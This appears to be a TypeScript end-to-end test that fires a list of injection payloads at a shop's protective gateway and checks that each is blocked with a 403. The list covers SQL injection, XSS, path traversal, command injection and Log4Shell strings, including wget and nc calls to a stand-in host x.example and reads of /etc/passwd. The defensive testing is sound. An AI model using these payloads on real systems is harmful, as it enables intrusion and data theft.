import { Visitor, type Report, type Seen, type World } from './world.ts'

const ATTACKS: Readonly<Record<string, readonly string[]>> = {
  'SQL injection': [
    `' OR '1'='1`,
    `1' UNION SELECT null,password FROM users--`,
    `'; DROP TABLE orders;--`,
    `1' AND SLEEP(5)--`,
    `' or '1`,
    `1;select password from users-- -`,
  ],
  'cross-site scripting': [
    `<script>alert(1)</script>`,
    `<img src=x onerror=alert(1)>`,
    `"><svg/onload=alert(1)>`,
    `javascript:alert(document.cookie)`,
    `<form action=//x.example><input name=password>`,
    `';alert?.(1)//`,
  ],
  'path traversal': [
    `../../../../etc/passwd`,
    `..\\..\\windows\\win.ini`,
    `/proc/self/environ`,
    `file:///etc/hosts`,
    `../config/database.yml`,
  ],
  'command injection': [
    `; cat /etc/passwd`,
    `$(whoami)`,
    `127.0.0.1 && ls -la`,
    `; wget http://x.example/a.sh`,
    `|nc x.example 80`,
    `{cat,app.js}`,
  ],
  log4shell: [
    `\${jndi:ldap://x.example/a}`,
    `\${\${lower:j}ndi:ldap://x.example/a}`,
    `\${\${::-j}\${::-n}\${::-d}\${::-i}:rmi://x.example/a}`,
  ],
}

type Shot = {
  readonly path: string
  readonly method?: string
  readonly headers?: Record<string, string>
  readonly body?: string
}
const enc = encodeURIComponent
const twiceIf = (twice: boolean, value: string): string => (twice ? enc(value) : value)

/** The same value in each place a request can carry one; `twice` encodes once more than the place asks for. */
const PLACES: Readonly<Record<string, (value: string, twice: boolean) => Shot>> = {
  query: (v, twice) => ({ path: `/tim-kiem?q=${enc(twiceIf(twice, v))}` }),
  form: (v, twice) => ({
    path: '/dang-nhap',
    method: 'POST',
    headers: { 'content-type': 'application/x-www-form-urlencoded' },
    body: `email=${enc(twiceIf(twice, v))}&password=x`,
  }),
  json: (v, twice) => ({
    path: '/api/danh-gia',
    method: 'POST',
    headers: { 'content-type': 'application/json' },
    body: JSON.stringify({ stars: 5, words: [{ text: twiceIf(twice, v) }] }),
  }),
  header: (v, twice) => ({ path: '/', headers: { 'x-shop-note': twiceIf(twice, v) } }),
  cookie: (v, twice) => ({ path: '/', headers: { cookie: `note=${enc(twiceIf(twice, v))}` } }),
}
const AT_ONCE = 8

/** How many requests have reached the shop itself; asked on its own port, which the gateway does not lead to. */
export async function requestsOf(world: World): Promise<number> {
  const answer = (await (await fetch(`${world.shop}/_/count`)).json()) as { requests: number }
  return answer.requests
}

/** Step 4: every attack in every place, and none arrives. */
export async function attack(world: World, report: Report, seen?: Seen): Promise<string[]> {
  report.step('Tấn công qua cổng bảo vệ', 'Attacking through the gateway')
  const before = await requestsOf(world)
  const ids: string[] = []
  for (const [family, payloads] of Object.entries(ATTACKS)) {
    const shots = payloads.flatMap((payload) =>
      Object.entries(PLACES).flatMap(([place, make]) =>
        [false, true].map((twice) => ({
          shot: make(payload, twice),
          name: `${place}${twice ? ' ×2' : ''}: ${payload}`,
        })),
      ),
    )
    const through: string[] = []
    await inTurns(shots, async ({ shot, name }) => {
      const { path, ...sent } = shot
      const answer = await new Visitor(seen).send(`${world.gateway}${path}`, sent)
      const id = answer.headers.get('x-request-id') ?? ''
      const page = await answer.text()
      if (answer.status !== 403 || !id.startsWith('R-') || !page.includes(id)) through.push(`${answer.status} ${name}`)
      else ids.push(id)
    })
    report.check(
      `${family}: ${shots.length} lần trong query, biểu mẫu, JSON, header, cookie; mã hóa một và hai lần: 403, có mã yêu cầu`,
      `${family}: ${shots.length} shots in query, form, JSON, header, cookie; encoded once and twice: 403 with a request id`,
      through.length === 0,
      through.join(' | '),
    )
  }
  const after = await requestsOf(world)
  report.check(
    'bộ đếm của chính cửa hàng không tăng',
    'the shop’s own counter did not rise',
    after === before,
    `${before} → ${after}`,
  )
  const hidden = await new Visitor(seen).get(`${world.gateway}/_/count`)
  report.check(
    'bộ đếm không mở ra ngoài qua cổng',
    'the counter is not reachable through the gateway',
    hidden.status === 404,
  )
  return ids
}

async function inTurns<T>(list: readonly T[], work: (one: T) => Promise<void>): Promise<void> {
  const left = [...list]
  const worker = async (): Promise<void> => {
    for (let one = left.shift(); one !== undefined; one = left.shift()) await work(one)
  }
  await Promise.all(Array.from({ length: AT_ONCE }, worker))
}
